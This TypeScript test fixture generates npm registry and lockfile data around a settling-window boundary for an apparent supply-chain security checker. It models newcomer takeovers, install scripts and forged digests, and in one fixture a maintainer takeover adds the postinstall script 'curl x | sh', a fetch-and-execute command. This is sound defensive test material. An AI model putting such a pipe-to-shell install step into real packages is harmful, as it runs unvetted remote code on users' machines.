/**
 * Generated histories on every boundary of the settling window (src/engine/settled.ts), for the
 * tests that prove abbreviated documents first and full documents give the same reports.
 */
import { defaultPolicy } from '../../src/config/validate-policy.js';
import { settlingWindow } from '../../src/engine/settled.js';
import type { LockedPackage } from '../../src/model/types.js';
import { days, makeLockedPackage, NOW } from './history.js';
import { makePackument, type FixtureVersionSpec, type RawPackument } from './packument.js';

/** The default policy's settling window (90 days). */
export const W = settlingWindow(defaultPolicy()) as number;

const integrityOf = (name: string, version: string) => `sha512-${Buffer.from(`${name}@${version}`).toString('base64')}`;
export const locked = (name: string, version: string, fields: Partial<LockedPackage> = {}) =>
  makeLockedPackage({ name, version, integrity: integrityOf(name, version), ...fields });

/**
 * Packages whose `modified` sits just before, on and just after NOW - W, each in the shapes that
 * decide settling: a plain release, a newcomer's release, install scripts, a deprecation, a
 * version the registry does not list, a lockfile digest the registry did not publish, a
 * registry without `time`; plus, optionally, a stranger's takeover that needs the index, and a
 * newcomer who also publishes a settled package (the discount must see it on both paths).
 */
export function boundaryCorpus(withNewcomers: boolean) {
  const documents = new Map<string, RawPackument>();
  const packages: LockedPackage[] = [];
  const edges: Array<[string, number]> = [['before', -1], ['on', 0], ['after', 1]];
  for (const [label, offset] of edges) {
    const at = NOW - W + offset;
    const add = (kind: string, versions: FixtureVersionSpec[], lock: string, fields: Partial<LockedPackage> = {}, extra: { omitTime?: boolean } = {}) => {
      const name = `${kind}-${label}`;
      documents.set(name, makePackument({ name, versions, modified: at, ...extra }));
      packages.push(locked(name, lock, fields));
    };
    add('plain', [{ version: '1.0.0', publishedAt: at - days(400) }, { version: '1.1.0', publishedAt: at }], '1.1.0');
    // After the boundary a handover is a newcomer's release, which needs the publisher index.
    if (withNewcomers) add('handover', [{ version: '1.0.0', publishedAt: at - days(400), publisher: 'alice' }, { version: '2.0.0', publishedAt: at, publisher: 'bob' }], '2.0.0');
    add('scripts', [{ version: '1.0.0', publishedAt: at - days(400) }, { version: '1.1.0', publishedAt: at, scripts: { postinstall: 'node x.js' } }], '1.1.0');
    add('deprecated', [{ version: '1.0.0', publishedAt: at, deprecated: 'no longer maintained' }], '1.0.0');
    add('missing', [{ version: '1.0.0', publishedAt: at }], '1.0.1');
    add('forged', [{ version: '1.0.0', publishedAt: at }], '1.0.0', { integrity: integrityOf('somebody-else', '1.0.0') });
    add('timeless', [{ version: '1.0.0' }], '1.0.0', {}, { omitTime: true });
  }
  // Carol published `plain-before` long ago; here she takes over `adopted` (a newcomer with a discount).
  documents.set('plain-before', makePackument({
    name: 'plain-before', modified: NOW - W - 1,
    versions: [{ version: '1.0.0', publishedAt: NOW - W - days(400), publisher: 'carol' }, { version: '1.1.0', publishedAt: NOW - W - 1 }],
  }));
  if (withNewcomers) {
    documents.set('adopted', makePackument({ name: 'adopted', versions: [
      { version: '1.0.0', publishedAt: NOW - days(500), publisher: 'alice' },
      { version: '1.1.0', publishedAt: NOW - days(20), publisher: 'carol' },
    ] }));
    packages.push(locked('adopted', '1.1.0'));
    documents.set('taken', makePackument({ name: 'taken', versions: [
      { version: '1.0.0', publishedAt: NOW - days(500), publisher: 'alice' },
      { version: '1.0.1', publishedAt: NOW - days(20), publisher: 'mallory', scripts: { postinstall: 'curl x | sh' } },
    ] }));
    packages.push(locked('taken', '1.0.1'));
  }
  return { documents, packages };
}

